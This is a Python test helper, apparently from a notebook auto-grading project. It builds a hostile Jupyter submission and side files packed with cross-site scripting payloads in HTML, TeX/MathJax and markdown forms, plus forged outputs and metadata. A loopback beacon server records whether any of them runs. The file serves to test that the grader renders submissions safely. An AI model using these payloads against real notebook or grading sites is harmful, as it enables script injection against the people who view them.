"""A submission that tries to run script wherever a page may show something of it, and what finds it out.

Every attempt shows an alert, changes the title and asks for the beacon's address; one that needs no script asks for
the address alone.
"""

import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer

ANSWER = "Differences between users stay as they were"
HEADING = "# centre-values"
"""A heading has its text for an id, and the formgrader looks for the field of a mark by such an id."""


@contextmanager
def open_beacon():
    """A server on loopback that nobody has reason to ask; yields its address and the paths it was asked for."""
    asked: list[str] = []

    class Beacon(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_):
            pass

    server = HTTPServer(("127.0.0.1", 0), Beacon)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()
    server.server_close()


def script(beacon: str) -> str:
    """What every attempt would run."""
    return f"document.title=/ran/.source;alert(/ran/.source);fetch(`{beacon}/ran`)"


def html_texts(beacon: str) -> list[str]:
    """HTML that runs script by itself, or loads something, or lies over the page."""
    run = script(beacon)
    entities = "".join(f"&#{ord(letter)};" for letter in f"javascript:{run}")
    return [
        f"<script>{run}</script>",
        f"<SCRIPT\n>{run}</SCRIPT\t>",
        f"<scr<script>ipt>{run}</script>",
        f'<script src="{beacon}/x.js"></script>',
        f'<img src=x onerror="{run}">',
        f'<img src="{beacon}/x.png" srcset="{beacon}/y.png 2x">',
        f'<svg onload="{run}"><animate onbegin="{run}" attributeName=x dur=1s></svg>',
        f"<svg><script>{run}</script></svg>",
        f'<iframe src="javascript:{run}"></iframe>',
        f'<iframe srcdoc="<script>{run}</script>"></iframe>',
        f'<a href="javascript:{run}" autofocus onfocus="{run}" tabindex=0>x</a><a href="{entities}">x</a>',
        f'<a href="data:text/html,<script>{run}</script>">x</a>',
        f'<details open ontoggle="{run}">x</details><marquee onstart="{run}">x</marquee>',
        f'<video autoplay oncanplay="{run}"><source src=x onerror="{run}"></video>',
        f'<object data="{beacon}/x"></object><embed src="{beacon}/x">',
        f'<form action="{beacon}/x"><input autofocus onfocus="{run}"><button>x</button></form>',
        f'<meta http-equiv="refresh" content="0;url={beacon}/x"><base href="{beacon}/">',
        f'<link rel=stylesheet href="{beacon}/x.css"><style>@import "{beacon}/x.css"; body{{display:none}}</style>',
        f'<p style="background:url({beacon}/x);position:fixed;top:0;margin:-900px" onclick="{run}">x</p>',
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
        f'<noscript><p title="</noscript><img src=x onerror={run}>">',
        f"<!--><script>{run}</script>--><![CDATA[<script>{run}</script>]]><?x <script>{run}</script>?>",
        f"&lt;script&gt;{run}&lt;/script&gt;&#60;img src=x onerror={run}&#62;",
        '<b id="centre-values" class="score nbgrader_cell" name="submit">x</b>',
        f"</pre></code></div></textarea></title></script></style><script>{run}</script>",
        f"\x00<scr\x00ipt>{run}</script>\x1b[31m<img src=x onerror={run}>\x1b]8;;javascript:{run}\x07x",
    ]


def tex_texts(beacon: str) -> list[str]:
    """TeX that acts on the page around it."""
    run = script(beacon)
    return [
        rf"$\href{{javascript:{run}}}{{x}}$",
        rf"$\style{{background:url({beacon}/x)}}{{x}}\class{{score}}{{x}}\cssId{{centre-values}}{{x}}$",
        rf"$\mmlToken{{mi}}[href='javascript:{run}']{{x}}$",
        rf"$\bbox[background:url({beacon}/x)]{{x}}\unicode{{x3c}}\require{{html}}$",
        rf"$\let\x\href \x{{javascript:{run}}}{{y}}$",
        f"$</script><script>{run}</script>$",
        f"$$<img src=x onerror='{run}'>$$",
        rf"\begin{{x}}<img src=x onerror='{run}'>\end{{x}}",
    ]


def markdown_texts(beacon: str) -> list[str]:
    """Markdown that becomes HTML which acts, or links that run script when they are followed."""
    run = script(beacon)
    return [
        f"[x](javascript:{run})",
        f"[x](<java\tscript:{run}>)",
        f"[x](JaVa&#115;cript:{run})",
        f"[x][y]\n\n[y]: data:text/html,<script>{run}</script> 'x'",
        f"<javascript:{run}>",
        "[x](http:run.html)",
        "[x](run.html)",
        "![x](run.svg)",
        f"![x]({beacon}/x.png)",
        f'![x" onerror="{run}](x "x" onerror="{run}")',
        f'[x](http://localhost:1 "x" onmouseover="{run}")',
        f'# x" onmouseover="{run}',
        f"```html\n</code></pre><script>{run}</script>\n```",
        f'```x" onclick="{run}\nx\n```',
        f"~~~\n<b>\n~~~\n<script>{run}</script>",
        f"`<b>`<script>{run}</script>",
        f"| a |\n|---|\n| <script>{run}</script> |",
        f"````\n```\n````\n<script>{run}</script>",
        "```mermaid\ngraph TD; a-->b; click a callback\n```",
    ]


def shows_everything(beacon: str) -> str:
    """Code that shows all texts in every kind of output, and fails with one of them."""
    texts = [*html_texts(beacon), *tex_texts(beacon), *markdown_texts(beacon)]
    return f"""import sys, warnings
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, Math, display
texts = {texts!r}
script = {script(beacon)!r}
for text in texts:
    print(text)
    print(text, file=sys.stderr)
    warnings.warn(text)
    for kind in (HTML, Markdown, Latex, Math):
        display(kind(text))
    display({{"text/html": text, "text/plain": text, "image/svg+xml": text, "application/javascript": text}}, raw=True,
            metadata={{"text/html": {{"isolated": True}}, text: text}})
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>" + script + "</script></svg>"))
display(Javascript(script))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": texts[0]}}, "application/json": texts}}, raw=True)
import base64, io
import matplotlib.pyplot as plt
drawing = io.BytesIO()
plt.figure(figsize=(1, 1))
plt.savefig(drawing, format="png", metadata={{"Title": texts[0]}})
plt.close("all")
for image in (drawing.getvalue() + texts[0].encode(), texts[0].encode()):
    display({{"image/png": base64.b64encode(image).decode(), "text/plain": "an image"}}, raw=True,
            metadata={{"image/png": {{"width": '1 onload="' + script + '"', "alt": texts[4]}}}})
"""


def hostile_notebook(release: bytes, beacon: str, **answers: str) -> bytes:
    """The released notebook with ``answers``, script in every place that a student can write to, and forged frames."""
    texts = [*html_texts(beacon), *tex_texts(beacon), *markdown_texts(beacon)]
    notebook = json.loads(release)
    for cell in notebook["cells"]:
        name = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if name in answers:
            cell["source"] = answers[name]
        if name == "centre":
            cell["source"] += "".join(f"\n# {line}" for text in texts for line in text.replace("\0", "").splitlines())
        if name == "centre-check":
            cell["source"] = texts[0]
        cell["metadata"].update({texts[0]: texts[0], "tags": [texts[4]], "raw_mimetype": "text/html"})
        cell.update(id=f'x" onclick="{script(beacon)}', attachments={"run.svg": {"image/svg+xml": texts[7]}})
    named = json.dumps(texts[0])
    own = [_cell("markdown", HEADING), *(_cell("markdown", text) for text in texts)]
    own += [_cell("raw", text) for text in texts]
    own += [_cell("code", shows_everything(beacon)), _cell("code", f"%%html\n{texts[0]}")]
    own += [_cell("code", f"raise type({named}, (Exception,), {{}})({text!r})") for text in texts]
    notebook["cells"][1:1] = own
    notebook["metadata"].update(title=texts[0], widgets={"application/vnd.jupyter.widget-state+json": texts[0]})
    notebook["metadata"]["language_info"] = {"name": texts[0], "pygments_lexer": texts[0]}
    return json.dumps(notebook).encode()


def hostile_files(beacon: str) -> dict[str, bytes]:
    """Files to hand in beside the notebook, script in their names and in what is in them."""
    page = f"<script>{script(beacon)}</script>".encode()
    drawing = b"<svg xmlns='http://www.w3.org/2000/svg'>" + page + b"</svg>"
    names = (
        "run.html",
        "mean.html",
        "custom.css",
        "jquery.min.js",
        f'<img src=x onerror="{script("x")}">'.replace("/", ""),
    )
    return {**dict.fromkeys(names, page), "run.svg": drawing, "plot.png": page}


def _cell(cell_type: str, source: str) -> dict:
    made = {"cell_type": cell_type, "metadata": {"raw_mimetype": "text/html"}, "source": source}
    return {**made, "outputs": [], "execution_count": None} if cell_type == "code" else made
